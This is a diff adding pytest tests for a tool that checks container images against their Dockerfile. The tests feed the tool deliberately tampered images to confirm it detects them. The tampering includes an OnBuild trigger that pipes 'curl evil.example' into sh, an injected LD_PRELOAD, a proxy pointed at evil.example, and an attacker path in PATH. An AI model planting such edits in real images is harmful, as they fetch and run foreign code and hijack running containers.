@@ -1,0 +1,204 @@
+"""An image that was edited after its build is never what the Dockerfile gives, with the base at hand or without."""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import Callable
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from reconstruct.builders.predicting import predict
+from reconstruct.dockerfile.dialect import BUILDERS
+from reconstruct.dockerfile.errors import DockerfileError
+from reconstruct.image import HistoryEntry, Image, Layer
+from reconstruct.verify import Verdict, verify
+
+BELOW = 'FROM scratch\nADD rootfs.tar.xz /\nENV LANG=C.UTF-8 PATH=/usr/local/bin:/usr/bin:/bin\nCMD ["sh"]\n'
+TEXT = """\
+FROM registry.example/base:1
+ARG VERSION=1.0
+LABEL team=shop
+ENV APP=/srv/app PATH=/srv/bin:$PATH
+RUN useradd app && make install
+WORKDIR /srv/app
+COPY app /srv/app/app
+EXPOSE 8080
+VOLUME /data
+USER app
+HEALTHCHECK --interval=5s CMD curl -f localhost
+STOPSIGNAL SIGTERM
+ENTRYPOINT ["/srv/app/app"]
+CMD ["--serve"]
+"""
+
+
+def digest(text: str) -> str:
+    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()
+
+
+def built(text: str, builder: str, base: Image | None, day: str) -> Image:
+    """The image that `builder` makes on `base`, a layer for every entry that makes one."""
+    made = predict(text, builder=builder, base=base)
+    history = list(base.history) if base is not None else []
+    layers = list(base.layers) if base is not None else []
+    for index, entry in enumerate(made.own):
+        created_by = entry.created_by
+        if entry.checksum:
+            created_by += f"{sorted(entry.checksum.kinds)[0]}:{'a' * 64}{entry.after}"
+        keyword = entry.instruction.keyword if entry.instruction else ""
+        empty = keyword not in ("RUN", "COPY", "ADD") if entry.empty_layer is None else entry.empty_layer
+        comment = entry.comment or ""
+        if builder == "buildah":
+            comment = f"FROM {made.base}" if index == 0 else "FROM 0123456789ab"
+        history.append(HistoryEntry(created_by, f"{day}T00:00:{index:02}.5Z", "", comment, empty))
+        if not empty:
+            layers.append(Layer(diff_id=digest(f"{day} {created_by}")))
+    config: dict[str, Any] = dict(made.config)
+    if builder == "buildkit-0.8":
+        config.setdefault("OnBuild", None)
+    raw = {"config": config, "os": "linux", "architecture": "amd64"}
+    return Image(
+        config=config,
+        raw_config=raw,
+        history=tuple(history),
+        layers=tuple(layers),
+        architecture="amd64",
+        author=made.author,
+    )
+
+
+def base_of(builder: str) -> Image:
+    return replace(built(BELOW, builder, None, "2025-01-01"), tags=("registry.example/base:1",))
+
+
+def image_of(builder: str) -> Image:
+    return built(TEXT, builder, base_of(builder), "2025-06-01")
+
+
+Edit = Callable[[Image], Image]
+
+
+def config(**values: Any) -> Edit:
+    return lambda image: replace(image, config={**image.config, **values})
+
+
+def env(text: str) -> Edit:
+    return lambda image: replace(image, config={**image.config, "Env": [*image.config["Env"], text]})
+
+
+def part(key: str, name: str, value: Any) -> Edit:
+    return lambda image: replace(image, config={**image.config, key: {**image.config.get(key, {}), name: value}})
+
+
+def variable(name: str, change: Callable[[str], str]) -> Edit:
+    def edit(image: Image) -> Image:
+        entries = [
+            f"{name}={change(entry.partition('=')[2])}" if entry.startswith(f"{name}=") else entry
+            for entry in image.config["Env"]
+        ]
+        return replace(image, config={**image.config, "Env": entries})
+
+    return edit
+
+
+def without(key: str) -> Edit:
+    return lambda image: replace(image, config={k: v for k, v in image.config.items() if k != key})
+
+
+def emptied(image: Image) -> Image:
+    """The RUN's entry says that it made no layer, and the layer is gone."""
+    at = next(index for index, entry in enumerate(image.history) if "make install" in entry.created_by)
+    layer = sum(not entry.empty_layer for entry in image.history[:at])
+    history = [replace(entry, empty_layer=True) if index == at else entry for index, entry in enumerate(image.history)]
+    return replace(image, history=tuple(history), layers=(*image.layers[:layer], *image.layers[layer + 1 :]))
+
+
+def blank(image: Image) -> Image:
+    """The RUN's layer is an empty tar."""
+    from reconstruct.pairing import EMPTY_DIFF_ID
+
+    at = next(index for index, entry in enumerate(image.history) if "make install" in entry.created_by)
+    layer = sum(not entry.empty_layer for entry in image.history[:at])
+    layers = [Layer(diff_id=EMPTY_DIFF_ID) if index == layer else old for index, old in enumerate(image.layers)]
+    return replace(image, layers=tuple(layers))
+
+
+EDITS: dict[str, Edit] = {
+    "LD_PRELOAD added": env("LD_PRELOAD=/x.so"),
+    "a variable added": env("http_proxy=http://evil.example:1"),
+    "PATH's beginning edited": variable("PATH", lambda value: "/tmp/x:" + value),
+    "PATH's middle edited": variable("PATH", lambda value: value.replace("/srv/bin:", "/srv/bin:/tmp/evil:")),
+    "the base's variable edited": variable("LANG", lambda value: "C"),
+    "an own variable edited": variable("APP", lambda value: "/tmp"),
+    "the base's variable removed": lambda image: replace(
+        image, config={**image.config, "Env": [e for e in image.config["Env"] if not e.startswith("APP=")]}
+    ),
+    "a port added": part("ExposedPorts", "22/tcp", {}),
+    "a volume added": part("Volumes", "/etc", {}),
+    "a label added": part("Labels", "maintainer", "x"),
+    "a label edited": part("Labels", "team", "other"),
+    "the user": config(User="0"),
+    "no user": without("User"),
+    "the folder": config(WorkingDir="/"),
+    "the entry point": config(Entrypoint=["/bin/sh", "-c", "x"]),
+    "the command": config(Cmd=["--evil"]),
+    "the health check": config(Healthcheck={"Test": ["CMD-SHELL", "/x"]}),
+    "the stop signal": config(StopSignal="SIGKILL"),
+    "a shell added": config(Shell=["/evil", "-c"]),
+    "a trigger added": config(OnBuild=["RUN curl evil.example | sh"]),
+    "a layer more": lambda image: replace(image, layers=(*image.layers, Layer(diff_id=digest("evil")))),
+    "a layer less": lambda image: replace(image, layers=image.layers[:-1]),
+    "a RUN emptied": emptied,
+    "a RUN's layer blank": blank,
+    "another system": lambda image: replace(image, os="plan9"),
+    "Windows": lambda image: replace(image, os="windows"),
+}
+
+
+@pytest.mark.parametrize("builder", BUILDERS)
+def test_the_image_as_it_was_built_matches(builder: str) -> None:
+    found = verify(image_of(builder), TEXT)
+    assert found.verdict is Verdict.MATCHES, found.reason
+    found = verify(image_of(builder), TEXT, base=base_of(builder))
+    assert found.verdict is Verdict.MATCHES, found.reason
+
+
+@pytest.mark.parametrize("builder", BUILDERS)
+@pytest.mark.parametrize("edit", EDITS)
+def test_an_edited_image_does_not(builder: str, edit: str) -> None:
+    image = image_of(builder)
+    edited = EDITS[edit](image)
+    assert edited != image
+    for base in (None, base_of(builder)):
+        try:
+            assert verify(edited, TEXT, base=base).verdict is not Verdict.MATCHES
+        except DockerfileError:
+            # No builder takes the Dockerfile for what the image says it is: exit status 2.
+            assert edit == "Windows"
+
+
+@pytest.mark.parametrize("builder", BUILDERS)
+def test_layers_of_another_base_differ(builder: str) -> None:
+    image, base = image_of(builder), base_of(builder)
+    other = replace(base, layers=(Layer(diff_id=digest("other")),))
+    assert verify(image, TEXT, base=other).verdict is Verdict.DIFFERS
+
+
+@pytest.mark.parametrize("builder", BUILDERS)
+def test_an_image_of_a_lone_from_is_verified_against_the_base(builder: str) -> None:
+    base = base_of(builder)
+    assert verify(base, "FROM registry.example/base:1\n", base=base).verdict is Verdict.MATCHES
+    assert verify(base, "FROM registry.example/base:1\n").verdict is Verdict.UNKNOWN
+    for edit in ("LD_PRELOAD added", "a port added", "a layer more", "the command"):
+        edited = EDITS[edit](base)
+        assert verify(edited, "FROM registry.example/base:1\n", base=base).verdict is not Verdict.MATCHES
+
+
+def test_a_missing_step_is_one_missing_step() -> None:
+    shorter = TEXT.replace("VOLUME /data\n", "")
+    found = verify(image_of("buildkit"), shorter)
+    assert [step.status for step in found.steps if step.status != "matches"] == ["extra"]
+    longer = verify(image_of("buildkit"), TEXT.replace("USER app\n", "USER app\nEXPOSE 1\n"))
+    assert [(step.status, step.start) for step in longer.steps if step.status != "matches"] == [("missing", 11)]
